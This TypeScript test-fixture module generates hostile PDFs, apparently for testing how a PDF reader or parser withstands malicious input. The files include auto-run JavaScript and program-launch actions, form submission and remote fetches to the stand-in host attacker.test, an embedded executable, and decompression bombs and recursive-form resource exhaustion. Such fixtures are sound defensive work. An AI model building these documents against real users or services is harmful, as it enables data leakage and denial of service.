import { deflateSync } from "node:zlib";
import type { HostileFile } from "./hostile-file";
import { packedRun } from "./packed-run";

/** A PDF from its objects, with a right table; object 1 is the catalogue, 2 the pages, 3 the page, 4 what is drawn. */
export function pdfFrom(objects: readonly (string | Buffer)[], trailer = ""): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
  const places: number[] = [];
  let at = parts[0]?.length ?? 0;
  const add = (part: Buffer) => {
    parts.push(part);
    at += part.length;
  };
  for (const [n, body] of objects.entries()) {
    places.push(at);
    add(Buffer.concat([Buffer.from(`${n + 1} 0 obj\n`), Buffer.from(body), Buffer.from("\nendobj\n")]));
  }
  const lines = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines}`;
  const end = `trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(table + end)]);
}

const stream = (dictionary: string, data: Buffer | string) => {
  const bytes = Buffer.from(data);
  return Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${bytes.length}>>stream\n`),
    bytes,
    Buffer.from("\nendstream"),
  ]);
};
const box = "/MediaBox[0 0 300 300]";
const PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>";

/** One page, with what the test adds to the catalogue, to the page, and as further objects. */
function onePage(
  catalogue: string,
  page = "",
  more: readonly (string | Buffer)[] = [],
  content: Buffer | string = "",
): Buffer {
  const objects = [`<</Type/Catalog/Pages 2 0 R${catalogue}>>`, PAGES];
  const leaf = `<</Type/Page/Parent 2 0 R${page.includes("MediaBox") ? "" : box}/Contents 4 0 R${page}>>`;
  return pdfFrom([...objects, leaf, typeof content === "string" ? stream("", content) : content, ...more]);
}

/** Each form draws the next ten times: 10^9 squares from a kilobyte. */
function laughs(): Buffer {
  const form = (next: number) => {
    const resources = `/Resources<</XObject<</X ${next} 0 R>>>>`;
    return stream(`/Type/XObject/Subtype/Form/BBox[0 0 300 300]${resources}`, "/X Do ".repeat(10));
  };
  const last = stream("/Type/XObject/Subtype/Form/BBox[0 0 300 300]", "0 0 9 9 re f ");
  const forms = Array.from({ length: 9 }, (_, n) => form(n + 6));
  return onePage("", "/Resources<</XObject<</X 5 0 R>>>>", [...forms, last], "/X Do");
}

function picture(width: number, height: number, filter: string, data: Buffer): Buffer {
  const dictionary = `/Type/XObject/Subtype/Image/Width ${width}/Height ${height}/ColorSpace/DeviceRGB/BitsPerComponent 8`;
  const image = stream(`${dictionary}/Filter/${filter}`, data);
  return onePage("", "/Resources<</XObject<</X 5 0 R>>>>", [image], "300 0 0 300 0 0 cm /X Do");
}

const DOCUMENTS: readonly [string, () => Buffer][] = [
  ["runs a script when opened", () => onePage("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")],
  ["starts a program when opened", () => onePage("/OpenAction<</S/Launch/F(calc.exe)>>")],
  ["opens a page when opened", () => onePage("/OpenAction<</S/URI/URI(http://attacker.test/)>>")],
  ["sends a form when opened", () => onePage("/OpenAction<</S/SubmitForm/F(http://attacker.test/)>>")],
  ["fetches from elsewhere", () => onePage("", "/AA<</O<</S/GoToR/F(\\\\\\\\attacker.test\\\\x)/D[0/Fit]>>>>")],
  ["carries a program", () => onePage("/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>", "", [stream("", "MZ")])],
  ["has an XFA form", () => onePage("/AcroForm<</XFA 5 0 R>>", "", [stream("", "<xdp><script>1</script></xdp>")])],
  ["is its own parent", () => pdfFrom(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>"])],
  [
    "says it has two thousand million pages",
    () => pdfFrom(["<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 2000000000>>"]),
  ],
  ["has a page of 10^9 points", () => onePage("", "/MediaBox[0 0 1000000000 1000000000]")],
  ["has a page without size", () => onePage("", "/MediaBox[0 0 0 0]")],
  ["has a page of less than nothing", () => onePage("", "/MediaBox[300 300 -300 -300]")],
  ["has a page that is no number", () => onePage("", "/MediaBox[/A/B/C/D]")],
  ["laughs a thousand million times", laughs],
  [
    "unpacks to 200 MB of drawing",
    () => onePage("", "", [], stream("/Filter/FlateDecode", packedRun(200_000_000, "0 0 m "))),
  ],
  [
    "unpacks twice",
    () => onePage("", "", [], stream("/Filter[/FlateDecode/FlateDecode]", deflateSync(packedRun(100_000_000)))),
  ],
  ["holds a picture of 20,000 × 20,000", () => picture(20_000, 20_000, "FlateDecode", packedRun(50_000_000))],
  [
    "holds a picture that lies",
    () => picture(2_000_000_000, 2_000_000_000, "FlateDecode", deflateSync(Buffer.alloc(100))),
  ],
  ["holds a broken JPEG", () => picture(500, 500, "DCTDecode", Buffer.from("ffd8ffe000104a464946", "hex"))],
  ["holds broken JBIG2", () => picture(500, 500, "JBIG2Decode", Buffer.alloc(300, 0xa5))],
  ["holds broken JPEG 2000", () => picture(500, 500, "JPXDecode", Buffer.alloc(300, 0x5a))],
  [
    "has a broken font",
    () =>
      onePage(
        "",
        "/Resources<</Font<</F<</Type/Font/Subtype/TrueType/FontDescriptor<</FontFile2 5 0 R>>>>>>>>",
        [stream("", Buffer.alloc(500, 0x41))],
        "BT /F 20 Tf (x) Tj ET",
      ),
  ],
  [
    "asks for a password",
    () =>
      pdfFrom(
        [
          "<</Type/Catalog/Pages 2 0 R>>",
          PAGES,
          `<</Type/Page/Parent 2 0 R${box}>>`,
          `<</Filter/Standard/V 2/R 3/Length 128/P -4/O<${"41".repeat(32)}>/U<${"42".repeat(32)}>>>`,
        ],
        `/Encrypt 4 0 R/ID[<${"43".repeat(16)}><${"43".repeat(16)}>]`,
      ),
  ],
  [
    "is encrypted in a way nobody knows",
    () => pdfFrom(["<</Type/Catalog/Pages 2 0 R>>", PAGES, "<</Filter/Mine/V 99>>"], "/Encrypt 3 0 R"),
  ],
  ["nests 100,000 lists", () => onePage(`/X ${"[".repeat(100_000)}${"]".repeat(100_000)}`)],
  ["draws 100,000 states", () => onePage("", "", [], `${"q ".repeat(100_000)}0 0 9 9 re f`)],
  [
    "has its table in the wrong place",
    () =>
      Buffer.from(
        onePage("")
          .toString("latin1")
          .replace(/startxref\n\d+/, "startxref\n999999999"),
        "latin1",
      ),
  ],
];

/** Documents that want to act, to grow, or to keep the reader busy. */
export function hostileDocuments(): HostileFile[] {
  return DOCUMENTS.map(([what, make], n) => ({ what: `PDF that ${what}`, name: `document-${n}.pdf`, bytes: make() }));
}
